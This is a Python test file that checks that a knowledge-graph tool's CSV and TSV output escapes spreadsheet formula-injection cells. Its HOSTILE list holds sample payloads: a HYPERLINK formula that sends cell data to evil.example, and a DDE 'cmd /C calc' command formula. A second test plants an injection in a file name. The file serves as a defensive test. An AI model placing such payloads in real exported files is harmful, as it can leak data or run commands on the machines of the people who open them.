"""CSV and TSV output is safe to open in a spreadsheet (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from rdflib import Graph

from kg.cli import main
from kg.model import Document
from kg.query import format_result
from kg.rdf import document_graph, new_run
from kg.store import open_store
from store_fixtures import claim

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def _values(*cells: str) -> Graph:
    graph = Graph()
    quoted = " ".join('"' + c.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"' for c in cells)
    return graph.query(f"SELECT ?v WHERE {{ VALUES ?v {{ {quoted} }} }}")


@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
def test_formula_cells_get_a_leading_quote(fmt, delimiter):
    text = format_result(_values(*HOSTILE, "Russia", "-3", "1.5e3"), fmt)
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)][1:]
    assert cells == [f"'{c}" for c in HOSTILE] + ["Russia", "-3", "1.5e3"]


def test_kg_query_csv_neutralises_file_names_and_sentences(tmp_path, capsys):
    name = "=HYPERLINK(\"http://evil.example\").txt"
    sentence = "@SUM(1+1) Russia targets voters."
    document = Document(name, name, sentence, "0" * 64)
    graph = document_graph(document, [claim(name, "Russia", "targets", "voters", sentence=sentence)], new_run())
    with open_store(tmp_path / "store") as store:
        store.ensure_ontology()
        store.add_documents([graph])
    assert main(["query", "--store", str(tmp_path / "store"), "--name", "actor-activity", "--param", "actor=Russia", "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = [cell for row in rows for cell in row]
    assert f"'{name}" in cells and f"'{sentence}" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell not in ("-",)]
